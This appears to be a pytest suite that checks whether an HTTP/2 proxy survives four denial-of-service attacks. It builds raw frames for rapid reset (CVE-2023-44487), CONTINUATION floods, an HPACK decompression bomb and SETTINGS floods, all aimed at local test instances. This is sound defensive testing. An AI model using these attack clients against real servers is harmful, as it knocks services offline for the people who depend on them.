"""Hostile HTTP/2 clients, built frame by frame: rapid reset, CONTINUATION flood, HPACK bomb,
SETTINGS flood. Each runs against haproxy 2.6 and Fulcrum; the proxy must stay up and keep
serving another client while (and after) the attack runs; Fulcrum must also cut the attacker's
connection (GOAWAY or close) instead of working for it."""

import socket
import struct
import subprocess
import time

import pytest

from harness import Proxy, free_port, wait_for
from test_h2 import h2_config, nghttpd  # noqa: F401 (fixture)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes, index=False):
    """HPACK literal header field with a literal name (no Huffman); `index` adds it to the table."""
    def length(n):
        if n < 127:
            return bytes([n])
        n -= 127
        out = bytearray([127])
        while n >= 128:
            out.append((n & 127) | 128)
            n >>= 7
        out.append(n)
        return bytes(out)
    return (b"\x40" if index else b"\x00") + length(len(name)) + name + length(len(value)) + value


def request_block(authority=b"127.0.0.1"):
    # :method GET (2), :scheme http (6), :path / (4) from the static table; :authority literal.
    return b"\x82\x86\x84" + b"\x01" + bytes([len(authority)]) + authority


class RawH2:
    def __init__(self, port):
        self.s = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.s.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.buf = b""
        self.frames = []  # (type, flags, stream, payload) received

    def send(self, data):
        try:
            self.s.sendall(data)
            return True
        except OSError:
            return False

    def closed_or_goaway(self, timeout):
        """True when the proxy sends GOAWAY or closes the connection within `timeout`."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            self.s.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                d = self.s.recv(65536)
            except socket.timeout:
                return False
            except OSError:
                return True
            if not d:
                return True
            self.buf += d
            while len(self.buf) >= 9:
                n = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + n:
                    break
                ftype, flags = self.buf[3], self.buf[4]
                stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
                self.frames.append((ftype, flags, stream, self.buf[9:9 + n]))
                self.buf = self.buf[9 + n:]
                if ftype == GOAWAY:
                    return True
        return False

    def close(self):
        self.s.close()


def victim_ok(port):
    out = subprocess.run(["curl", "-sS", "--http2-prior-knowledge", "--max-time", "5", "-o", "/dev/null",
                          "-w", "%{http_code}", f"http://127.0.0.1:{port}/index.html"],
                         capture_output=True, text=True, timeout=10)
    return out.stdout == "200"


@pytest.fixture
def h2proxy(impl, tmp_path, nghttpd):  # noqa: F811
    sport, _ = nghttpd
    port = free_port()
    proxy = Proxy(impl, h2_config(port, sport), tmp_path, port, name="hostile")
    assert victim_ok(port)
    yield proxy
    alive = proxy.alive()
    proxy.stop()
    assert alive, f"{impl} died: {proxy.stderr()}"


def test_rapid_reset(impl, h2proxy):
    """CVE-2023-44487: open a stream and reset it at once, thousands of times."""
    a = RawH2(h2proxy.port)
    cut = False
    for batch in range(50):
        data = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, request_block()) +
                        frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", 8))
                        for i in range(batch * 100, batch * 100 + 100))
        if not a.send(data):
            cut = True
            break
        if batch % 10 == 9:
            assert victim_ok(h2proxy.port)
    cut = cut or a.closed_or_goaway(3)
    a.close()
    assert victim_ok(h2proxy.port)
    if impl == "fulcrum":
        assert cut, "the attacker's connection was not cut"


def test_continuation_flood(impl, h2proxy):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end."""
    a = RawH2(h2proxy.port)
    sent = a.send(frame(HEADERS, 0, 1, request_block()))
    junk = literal(b"x-flood", b"a" * 16)
    for i in range(2000):
        if not a.send(frame(CONTINUATION, 0, 1, junk)):
            break
    cut = a.closed_or_goaway(3)
    a.close()
    assert sent and victim_ok(h2proxy.port)
    assert cut, "the connection was neither closed nor sent a GOAWAY"


def test_hpack_bomb(impl, h2proxy):
    """One 4000-byte header put in the dynamic table, then referenced thousands of times: a few KB
    on the wire that would decode to megabytes."""
    a = RawH2(h2proxy.port)
    block = request_block() + literal(b"x-bomb", b"b" * 4000, index=True) + b"\xbe" * 4000  # index 62
    chunks = [block[i:i + 16000] for i in range(0, len(block), 16000)]
    data = frame(HEADERS, END_STREAM if len(chunks) > 1 else END_STREAM | END_HEADERS, 1, chunks[0])
    for j, c in enumerate(chunks[1:]):
        data += frame(CONTINUATION, END_HEADERS if j == len(chunks) - 2 else 0, 1, c)
    a.send(data)
    cut = a.closed_or_goaway(3)
    a.close()
    assert victim_ok(h2proxy.port)
    on1 = [(t, p) for t, _, st, p in a.frames if st == 1]
    # Never served; refused one way or another: the connection (GOAWAY/close) or the stream
    # (RST_STREAM, or an error status: anything but :status 200, static index 8 = 0x88).
    assert not any(t == HEADERS and p[:1] == b"\x88" for t, p in on1), on1
    assert cut or any(t == RST_STREAM for t, _ in on1) or any(t == HEADERS for t, _ in on1)


def test_settings_flood(impl, h2proxy):
    """SETTINGS frames sent without ever reading the ACKs they ask for."""
    a = RawH2(h2proxy.port)
    a.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    payload = struct.pack(">HI", 3, 100)  # SETTINGS_MAX_CONCURRENT_STREAMS 100
    cut = False
    deadline = time.monotonic() + 10
    for batch in range(200):
        if time.monotonic() > deadline or not a.send(frame(SETTINGS, 0, 0, payload) * 1000):
            cut = True
            break
    a.s.settimeout(0.2)
    assert victim_ok(h2proxy.port)
    cut = cut or a.closed_or_goaway(3)
    a.close()
    assert victim_ok(h2proxy.port)
    if impl == "fulcrum":
        assert cut, "the flood was absorbed without limit"


def test_settings_announced_follow_tune_h2(impl, tmp_path, nghttpd):  # noqa: F811
    """`tune.h2.max-concurrent-streams` and `tune.h2.initial-window-size` are what the proxy's
    SETTINGS frame announces (read off the wire)."""
    sport, _ = nghttpd
    port = free_port()
    cfg = h2_config(port, sport).replace("global\n", "global\n    tune.h2.max-concurrent-streams 7\n    tune.h2.initial-window-size 32768\n")
    proxy = Proxy(impl, cfg, tmp_path, port, name="tune")
    try:
        a = RawH2(port)
        a.closed_or_goaway(1)  # collects frames for a second
        a.close()
    finally:
        proxy.stop()
    settings = [p for t, f, st, p in a.frames if t == SETTINGS and not f & 1]
    assert settings, a.frames
    values = {struct.unpack(">H", s[i:i + 2])[0]: struct.unpack(">I", s[i + 2:i + 6])[0]
              for s in settings for i in range(0, len(s), 6)}
    assert values.get(3) == 7 and values.get(4) == 32768, values
